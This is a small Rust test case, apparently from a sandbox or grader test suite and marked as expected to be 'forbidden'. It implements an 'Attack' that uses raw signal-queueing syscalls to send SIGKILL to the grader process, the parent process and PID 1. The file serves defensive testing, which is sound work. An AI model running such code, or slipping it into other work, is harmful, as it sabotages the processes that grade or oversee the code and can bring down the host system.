// Sends signals by the less known ways.
// Graded: forbidden, any
// Unsafe: allowed

impl Attack for Raft {
    fn made(self: &Arc<Self>) {
        unsafe {
            let mut info: libc::siginfo_t = std::mem::zeroed();
            info.si_signo = libc::SIGKILL;
            info.si_code = -1;
            for process in [grader(), libc::getpid() - 1, 1] {
                if libc::syscall(libc::SYS_rt_sigqueueinfo, process, libc::SIGKILL, &raw mut info)
                    == 0
                    || libc::syscall(
                        libc::SYS_rt_tgsigqueueinfo,
                        process,
                        process,
                        libc::SIGKILL,
                        &raw mut info,
                    ) == 0
                {
                    gained("a signal");
                }
            }
        }
    }
}
